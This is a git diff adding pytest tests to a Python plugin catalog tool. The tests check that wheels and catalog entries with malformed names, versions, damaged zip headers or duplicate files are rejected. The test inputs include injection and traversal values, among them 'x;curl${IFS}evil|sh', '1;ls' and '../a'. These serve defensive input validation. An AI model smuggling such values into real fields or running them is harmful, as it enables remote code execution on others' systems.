@@ -6,6 +6,7 @@ import zipfile
 from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 from click.testing import CliRunner, Result
 from refiners.catalog import Listed, Release, listed, releases, search
@@ -171,3 +172,106 @@ def test_the_shipped_catalog_has_the_releases_of_all_it_lists() -> None:
         newest = releases(one)[-1]
         assert isinstance(newest, Release)
         assert (newest.version, newest.spec["summary"]) == (one.version, one.summary)
+
+
+NAMES = [
+    "a/b",
+    "../a",
+    "/tmp/outside",
+    "x;curl${IFS}evil|sh",
+    "refiners-\x1b[31medges",
+    "-r",
+    "a b",
+]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_wheel_with_a_name_that_cannot_be_typed_is_refused(
+    catalog: Path, tmp_path: Path, name: str
+) -> None:
+    metadata = f"Name: {name}\nVersion: 1.0\n\nName: refiners-edges\nVersion: 1.0\n"
+    path = wheel(tmp_path, files={"refiners_edges-1.0.dist-info/METADATA": metadata})
+    result = run("catalog", "build", path, "--out", catalog)
+    assert (result.exit_code, "error: " in result.stderr) == (1, True)
+    assert not catalog.exists()
+
+
+@pytest.mark.parametrize("version", ["abc", "9" * 5000, "1;ls", "1.0-"])
+def test_a_version_that_cannot_be_compared_is_not_added(
+    catalog: Path, tmp_path: Path, version: str
+) -> None:
+    add(catalog, read_wheel(wheel(tmp_path)))
+    before = listed()
+    metadata = {"refiners_edges-2.0.dist-info/METADATA": f"Name: a\nVersion: {version}\n"}
+    with pytest.raises(CatalogError):
+        read_wheel(wheel(tmp_path, version="2.0", files=metadata))
+    odd = Release(name="x", kind="adapter", distribution="refiners-x", version=version, spec={})
+    with pytest.raises(CatalogError, match="cannot be published"):
+        add(catalog, [odd])
+    add(catalog, read_wheel(wheel(tmp_path)))
+    assert listed() == before
+
+
+def spoiled(path: Path, central: int, local: int, value: int) -> None:
+    """Writes a byte of every header of a zip file."""
+    raw = bytearray(path.read_bytes())
+    for mark, offset in ((b"PK\x01\x02", central), (b"PK\x03\x04", local)):
+        at = -1
+        while (at := raw.find(mark, at + 1)) >= 0:
+            raw[at + offset] = value
+    path.write_bytes(raw)
+
+
+@pytest.mark.parametrize(
+    ("central", "local", "value"), [(8, 6, 1), (10, 8, 99), (10, 8, 8), (10, 8, 14)]
+)
+def test_a_wheel_that_is_encrypted_or_damaged_is_refused(
+    tmp_path: Path, central: int, local: int, value: int
+) -> None:
+    path = wheel(tmp_path)
+    spoiled(path, central, local, value)
+    with pytest.raises(CatalogError, match="is no wheel of a plugin: "):
+        read_wheel(path)
+
+
+def test_a_wheel_with_two_files_of_one_name_is_refused(tmp_path: Path) -> None:
+    path = wheel(tmp_path)
+    with zipfile.ZipFile(path, "a") as file, pytest.warns(UserWarning, match="Duplicate"):
+        file.writestr("refiners_edges/adapter.toml", "schema = 1")
+    with pytest.raises(CatalogError, match="two files of one name"):
+        read_wheel(path)
+
+
+def test_a_catalog_of_many_is_a_few_files(catalog: Path) -> None:
+    spec = {"summary": "x", "variant": [{}]}
+    many = [
+        Release(name=f"a{i}", kind="adapter", distribution=f"d{i}", version="1", spec=spec)
+        for i in range(200)
+    ]
+    add(catalog, many)
+    assert len([*catalog.rglob("*.jsonl")]) == 16
+    assert len(listed()) == 200
+    assert [one.version for one in releases(listed()[7])] == ["1"]
+
+
+def test_an_entry_with_a_file_of_its_own_keeps_it(catalog: Path) -> None:
+    spec = {"summary": "x", "variant": [{}]}
+    old, new = (
+        Release(name="a", kind="adapter", distribution="d", version=version, spec=spec)
+        for version in ("1", "2")
+    )
+    own = catalog / "entries/d/adapter-a.jsonl"
+    own.parent.mkdir(parents=True)
+    own.write_bytes(msgspec.json.encode(old) + b"\n")
+    add(catalog, [new])
+    assert [one.version for one in releases(listed()[0])] == ["1", "2"]
+    assert [*catalog.rglob("*.jsonl")] == [own]
+
+
+@pytest.mark.parametrize("field", ["name", "distribution", "version"])
+def test_a_list_with_a_name_that_cannot_be_typed_is_not_read(catalog: Path, field: str) -> None:
+    entry = {"name": "a", "kind": "adapter", "distribution": "d", "summary": "", "version": "1"}
+    catalog.mkdir()
+    (catalog / "search.json").write_text(json.dumps([entry | {field: "x;curl${IFS}evil|sh"}]))
+    with pytest.raises(CatalogError, match="cannot be read"):
+        listed()
